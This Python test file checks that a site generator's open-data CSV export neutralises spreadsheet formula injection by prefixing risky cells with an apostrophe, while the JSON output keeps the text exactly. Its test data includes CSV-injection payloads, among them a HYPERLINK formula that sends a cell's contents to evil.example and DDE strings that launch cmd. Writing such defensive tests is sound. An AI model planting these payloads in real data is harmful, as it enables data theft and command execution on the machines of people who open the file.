"""A spreadsheet never runs a formula from the open data: CSV cells that would start
one get a ``'`` in front (OWASP), while the JSON keeps every text exactly."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from generator.data import model
from generator.site import open_data

FORMULAS = (
    '=HYPERLINK("https://evil.example/?q="&A1;"Klikk her")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n=1+1",
)


def _dataset(text: str) -> model.Dataset:
    """Every text field of a small dataset set to ``text``."""
    edition = model.Edition("2026-01", text, dt.date(2026, 1, 30))
    seminar = model.Seminar("2026", text)
    point = model.Followup(
        id="2026-1",
        seminar=seminar,
        number=1,
        title=text,
        description=text,
        responsible=(text,),
        tags=(text,),
        deadline=None,
        statuses=(model.Status(edition, "pågår", text),),
    )
    unit = model.Unit("vest", text)
    return model.Dataset(
        council=model.Council(text, (text,)),
        editions=(edition,),
        seminars=(seminar,),
        followups=(point,),
        units=(unit,),
        areas=(model.Area(text, unit, "ny", None),),
        ipo_edition=edition,
    )


def _rows(raw: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_csv_cell_starts_a_formula(formula: str) -> None:
    data = _dataset(formula)
    for raw in (
        open_data.followups_csv(data),
        open_data.statuses_csv(data),
        open_data.areas_csv(data),
    ):
        _header, *rows = _rows(raw)
        cells = [value for row in rows for value in row]
        texts = [value for value in cells if formula.strip() in value]
        assert texts, "the text is in the file"
        for value in texts:
            assert value.startswith("'"), value
            assert value[1:] in (formula, formula.strip()), value


def test_the_separator_and_quotes_stay_inside_their_cell() -> None:
    text = 'a;b "c"\nd'
    header, row = _rows(open_data.areas_csv(_dataset(text)))
    assert row[:2] == [text, text]
    assert len(row) == len(header)


def test_ordinary_text_is_left_as_written() -> None:
    for text in ("Tiltak – 2026", "«=» er et likhetstegn", "a-b", "1+1", "'sitat'"):
        assert open_data.cell(text) == text
    assert open_data.cell(3) == 3


def test_the_json_keeps_the_text_exactly() -> None:
    for formula in FORMULAS:
        document = json.loads(open_data.as_json(open_data.followups_document(_dataset(formula))))
        assert document["followups"][0]["title"] == formula
        assert document["followups"][0]["statuses"][0]["text"] == formula
        areas = json.loads(open_data.as_json(open_data.areas_document(_dataset(formula))))
        assert areas["areas"][0]["name"] == formula


def test_the_open_data_page_says_so() -> None:
    from generator.site import render

    pages = render.render_site(_dataset("Tittel"), dt.date(2026, 1, 30)).pages
    assert (
        "Ett unntak: en celle som begynner med «=», «+», «-», «@» eller et tabulatortegn, "
        "får en apostrof (') foran."
    ) in pages["data/index.md"]
